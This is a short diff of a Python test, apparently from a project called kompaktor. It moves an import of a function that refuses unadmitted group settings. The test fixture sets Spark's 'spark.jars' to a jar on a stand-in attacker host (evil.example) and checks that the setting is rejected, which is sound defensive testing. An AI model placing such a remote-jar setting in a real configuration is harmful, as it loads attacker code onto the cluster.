@@ -126,9 +126,9 @@ def test_a_compactor_refusing_its_groups_settings_says_why_on_the_compactor_grou
     operator is the group's PodsHealthy message (the container's log tail, FallbackToLogsOnError)."""
     import pytest
 
-    from kompaktor.cli.compactor import refuse_unadmitted
     from kompaktor.model.errors import KompaktorError
     from kompaktor.policy.services import GroupConfig
+    from kompaktor.worker.assemble import refuse_unadmitted
 
     tampered = GroupConfig("big", spark_conf={"spark.jars": "http://evil.example/x.jar"})
     with pytest.raises(KompaktorError) as refused:
